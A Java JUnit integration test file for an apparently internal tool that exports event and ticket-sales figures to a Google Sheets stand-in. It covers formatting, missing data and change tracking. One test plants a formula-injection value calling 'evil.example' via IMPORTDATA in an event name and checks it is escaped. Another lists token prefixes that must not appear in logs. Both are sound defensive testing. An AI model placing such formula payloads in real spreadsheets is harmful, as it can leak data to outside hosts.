package io.vivenuoperator.export;

import static io.vivenuoperator.store.Samples.NOON;
import static io.vivenuoperator.store.Samples.event;
import static io.vivenuoperator.store.Samples.ticket;
import static io.vivenuoperator.store.Samples.type;
import static io.vivenuoperator.store.Samples.typeWithoutCapacity;
import static io.vivenuoperator.store.Samples.wasRead;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import io.vivenuoperator.export.SheetsStage.Ended;
import io.vivenuoperator.export.standin.SheetsStandIn.SharedAs;
import io.vivenuoperator.export.standin.SheetsStandIn.SheetsRequest;
import io.vivenuoperator.export.standin.StandInSheet;
import io.vivenuoperator.export.standin.TestAccount;
import io.vivenuoperator.platform.config.ExitCode;
import io.vivenuoperator.store.TestDatabase;
import io.vivenuoperator.store.event.EventRecord;
import io.vivenuoperator.store.event.EventRepository;
import io.vivenuoperator.store.ledger.LedgerStatus;
import io.vivenuoperator.store.ledger.TicketLedger;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** From a database to a spreadsheet. */
class SheetsIT {
    private static final int CAPACITY = 7;
    private static final int SOLD = 8;
    private static final int AVAILABLE = 9;
    private static final int PERCENT = 10;
    private static final int COUNTED = 11;
    private static final int MOVED = 7;
    private static final String CHANGES = "Sales Date Changes";
    private static final Instant SALE_END = Instant.parse("2099-05-17T08:00:00Z");

    @RegisterExtension
    final TestDatabase database = TestDatabase.migrated();

    @TempDir
    Path directory;

    private SheetsStage stage;

    @BeforeEach
    void begin() {
        wasRead(database, "dach");
        record(event("dach", "e1", 0, type("a", 200)), event("dach", "open", 0, typeWithoutCapacity("b")));
        sell("e1", "a", 50);
        stage = new SheetsStage(database, directory);
    }

    @AfterEach
    void end() {
        stage.close();
    }

    private void record(EventRecord... events) {
        database.database().inTransaction(tx -> new EventRepository().record(tx, List.of(events), NOON));
    }

    private void moveSale(Optional<Instant> sellStart, Optional<Instant> sellEnd, long seconds) {
        var plain = event("dach", "e1", seconds, type("a", 200));
        var moved = new EventRecord(
                plain.region(),
                plain.eventId(),
                plain.name(),
                plain.start(),
                plain.end(),
                sellStart,
                sellEnd,
                plain.timezone(),
                plain.sellerId(),
                plain.url(),
                plain.updatedAt(),
                plain.ticketTypes());
        database.database()
                .inTransaction(tx -> new EventRepository().record(tx, List.of(moved), NOON.plusSeconds(seconds)));
    }

    private void sell(String event, String type, int count) {
        var tickets = IntStream.range(0, count)
                .mapToObj(i -> ticket("dach", event + "-t" + i, event, type, LedgerStatus.VALID, 0))
                .toList();
        database.database().inTransaction(tx -> new TicketLedger().record(tx, tickets, NOON.plusSeconds(60)));
    }

    private StandInSheet sheet(String title) {
        return stage.google().spreadsheet().sheet(title);
    }

    private static int rowOf(StandInSheet sheet, String text) {
        return IntStream.range(0, sheet.rowCount())
                .filter(row -> IntStream.range(0, 3)
                        .anyMatch(column -> sheet.cell(row, column)
                                .path("stringValue")
                                .asText()
                                .equals(text)))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void figuresAreNumbersAndTimesAreTimes() {
        // when
        var ended = stage.run();

        // then
        assertThat(ended.code()).isEqualTo(ExitCode.DONE);
        assertThat(ended.reason()).isEqualTo("SheetWritten");
        assertThat(ended.report().path("rows").asInt()).isEqualTo(4);
        assertThat(ended.report().path("export").asText()).isEqualTo("management");
        var events = sheet("Events");
        int row = rowOf(events, "e1");
        assertThat(events.cell(row, CAPACITY).path("numberValue").asInt()).isEqualTo(200);
        assertThat(events.cell(row, SOLD).path("numberValue").asInt()).isEqualTo(50);
        assertThat(events.cell(row, AVAILABLE).path("numberValue").asInt()).isEqualTo(150);
        assertThat(events.cell(row, PERCENT).path("numberValue").asDouble()).isEqualTo(0.25);
        assertThat(events.cell(row, COUNTED).path("stringValue").asText()).isEqualTo("all tickets");
        // 2099-05-17T08:00Z in days since 1899-12-30
        assertThat(events.cell(row, 3).path("numberValue").asDouble()).isCloseTo(72_822 + 8 / 24.0, within(1e-9));
        var types = sheet("Ticket Types");
        assertThat(types.cell(rowOf(types, "a"), 7).path("numberValue").asInt()).isEqualTo(50);
        assertThat(types.cell(rowOf(types, "a"), 5).path("numberValue").asDouble())
                .isEqualTo(59.0);
    }

    @Test
    void whatIsNotKnownIsAnEmptyCellAndSaysSo() {
        // given: a region whose first full reading goes on
        database.execute("UPDATE event SET complete_since = NULL");

        // when
        stage.run();

        // then
        var events = sheet("Events");
        int open = rowOf(events, "open");
        assertThat(List.of(CAPACITY, SOLD, AVAILABLE, PERCENT))
                .allSatisfy(column ->
                        assertThat(events.cell(open, column).isMissingNode()).isTrue());
        assertThat(events.cell(open, COUNTED).path("stringValue").asText()).isEqualTo("not yet");
        int counted = rowOf(events, "e1");
        assertThat(events.cell(counted, SOLD).path("numberValue").asInt()).isEqualTo(50);
        assertThat(events.cell(counted, AVAILABLE).isMissingNode()).isTrue();
        assertThat(events.cell(counted, COUNTED).path("stringValue").asText()).isEqualTo("so far");
    }

    @Test
    void nothingIsWrittenWhenNothingChanged() {
        // given
        stage.run();
        stage.google().forgetRequests();

        // when
        var ended = stage.run();

        // then
        assertThat(ended.reason()).isEqualTo("NothingChanged");
        assertThat(ended.report().path("requests").asInt()).isOne();
        assertThat(stage.google().requests()).extracting(SheetsRequest::action).containsExactly("getByDataFilter");
    }

    @Test
    void aSaleIsThereAfterTheNextRunOfTwoRequests() {
        // given
        stage.run();
        sell("open", "b", 3);

        // when
        var ended = stage.run();

        // then
        assertThat(ended.report().path("requests").asInt()).isEqualTo(2);
        var events = sheet("Events");
        assertThat(events.cell(rowOf(events, "open"), SOLD).path("numberValue").asInt())
                .isEqualTo(3);
    }

    @Test
    void anExportHasTheRowsOfItsRegionsOnly() {
        // given
        wasRead(database, "usa");
        record(event("usa", "e9", 0, type("z", 7)));
        stage.spec("\"regions\":[\"usa\"],\"sheets\":[\"Events\"]");

        // when
        var ended = stage.run();

        // then
        assertThat(ended.report().path("rows").asInt()).isOne();
        assertThat(sheet("Events").lastRow()).isOne();
        assertThat(stage.google().spreadsheet().has("Ticket Types")).isFalse();
    }

    @Test
    void aNameThatLooksLikeAFormulaIsText() {
        // given
        database.execute("UPDATE event SET name = '=IMPORTDATA(\"https://evil.example\")' WHERE event_id = 'e1'");

        // when
        stage.run();

        // then
        var events = sheet("Events");
        assertThat(events.cell(rowOf(events, "e1"), 2).path("stringValue").asText())
                .isEqualTo("'=IMPORTDATA(\"https://evil.example\")");
        assertThat(stage.google().sawAFormula()).isFalse();
        assertThat(stage.run().reason()).isEqualTo("NothingChanged");
    }

    @Test
    void eachMoveOfASaleHasARowOfItsOwn() {
        // given
        stage.run();
        assertThat(sheet(CHANGES).lastRow()).isZero();
        moveSale(Optional.of(Instant.parse("2027-02-01T10:00:00Z")), Optional.of(SALE_END), 3_600);

        // when
        stage.run();
        moveSale(Optional.of(Instant.parse("2027-01-15T10:00:00Z")), Optional.empty(), 7_200);
        stage.run();

        // then: times in days since 1899-12-30
        var changes = sheet(CHANGES);
        assertThat(IntStream.rangeClosed(1, changes.lastRow()).mapToObj(row -> words(changes, row)))
                .containsExactly(
                        "dach e1 1 Event e1 sellStart 45672.417 46419.417 later 46348.542 yes",
                        "dach e1 2 Event e1 sellStart 46419.417 46402.417 earlier 46348.583 yes",
                        "dach e1 3 Event e1 sellEnd 72822.333 - - 46348.583 yes");
        assertThat(stage.run().reason()).isEqualTo("NothingChanged");
    }

    /** A row's cells, numbers with three digits, nothing as a dash. */
    private static String words(StandInSheet sheet, int row) {
        return IntStream.range(0, 10)
                .mapToObj(column -> sheet.cell(row, column))
                .map(cell -> cell.has("numberValue")
                        ? BigDecimal.valueOf(cell.path("numberValue").asDouble())
                                .setScale(3, RoundingMode.HALF_UP)
                                .toPlainString()
                                .replace(".000", "")
                        : cell.path("stringValue").asText("-"))
                .collect(Collectors.joining(" "));
    }

    @Test
    void aChangeStaysWherePeopleSortedItTo() {
        // given
        moveSale(Optional.of(Instant.parse("2027-02-01T10:00:00Z")), Optional.of(SALE_END), 3_600);
        moveSale(Optional.of(Instant.parse("2027-01-15T10:00:00Z")), Optional.of(SALE_END), 7_200);
        stage.run();
        sheet(CHANGES).sortBy(MOVED);

        // when
        var ended = stage.run();

        // then
        assertThat(ended.reason()).isEqualTo("NothingChanged");
        assertThat(words(sheet(CHANGES), 1)).startsWith("dach e1 2 ");
    }

    @Test
    void theReportIsTheTerminationMessage() throws IOException {
        // given: as the kubelet makes it
        var message = Files.createFile(directory.resolve("termination"));

        // when
        var ended = stage.run();

        // then
        assertThat(Files.readString(message)).isEqualTo(ended.printed().strip());
    }

    @Test
    void noSecretIsPrintedOrLogged() {
        // given
        stage.google().shareAs(SharedAs.NOBODY);

        // when
        Ended ended = stage.run();

        // then
        assertThat(ended.message()).contains(TestAccount.EMAIL);
        assertThat(ended.printed() + ended.logged()).doesNotContain("PRIVATE", "ya29.", "eyJ", "reader:reader");
    }
}
